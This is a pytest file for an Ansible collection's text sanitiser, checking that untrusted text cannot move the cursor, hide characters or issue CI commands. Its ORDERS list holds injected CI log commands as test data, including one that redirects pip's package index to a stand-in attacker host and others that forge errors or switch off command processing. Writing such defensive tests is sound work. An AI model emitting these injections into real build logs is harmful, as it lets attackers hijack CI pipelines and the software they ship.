# Copyright: hpc.onboard authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Foreign text: nothing in it moves a cursor or hides, and what can be seen stays."""

from __future__ import annotations

import pytest
from ansible_collections.hpc.onboard.plugins.plugin_utils._text.sanitise import clean, harmless, harmless_lines, visible
from fabricated import words
from hypothesis import given
from report_example import HOSTILE


@given(words)
def test_clean_text_moves_no_cursor(said: str) -> None:
    assert all(character.isprintable() or character == "\n" for character in clean(said))
    assert clean(clean(said)) == clean(said)


@pytest.mark.parametrize("said", HOSTILE)
def test_what_cannot_be_seen_is_spelled_out(said: str) -> None:
    assert visible(said).isprintable()
    assert visible(visible(said)) == visible(said)


def test_what_can_be_seen_stays() -> None:
    assert visible("Größe 日本語 ~/a b:12 'x' \\") == "Größe 日本語 ~/a b:12 'x' \\"


ORDERS = (
    "##vso[task.setvariable variable=PIP_INDEX_URL]http://evil.example",
    "##[error]forged",
    "##teamcity[buildStatus]",
    "::error file=x::forged",
    "::add-mask::a",
    "::stop-commands::zz",
    "::set-output name=a::b",
    "::endgroup::",
    "::debug::x",
)


@pytest.mark.parametrize("order", ORDERS)
def test_a_ci_system_finds_no_order_in_what_others_say(order: str) -> None:
    for made in (clean, harmless, harmless_lines, visible):
        assert made(f"a {order}") == f"a ?{order[1:]}"


def test_words_that_are_no_orders_stay() -> None:
    said = "## Accounts ::1 File::Spec::Unix std::string::errors x::y # [1]"
    assert harmless(said) == clean(said) == visible(said) == said


@given(words)
def test_harmless_text_is_one_line(said: str) -> None:
    assert harmless(said).isprintable()
    assert len(harmless(said, 5)) <= 5


@given(words)
def test_harmless_lines_have_line_ends_and_no_other_control_character(said: str) -> None:
    assert all(character.isprintable() or character == "\n" for character in harmless_lines(said))
    assert len(harmless_lines(said, 5)) <= 5
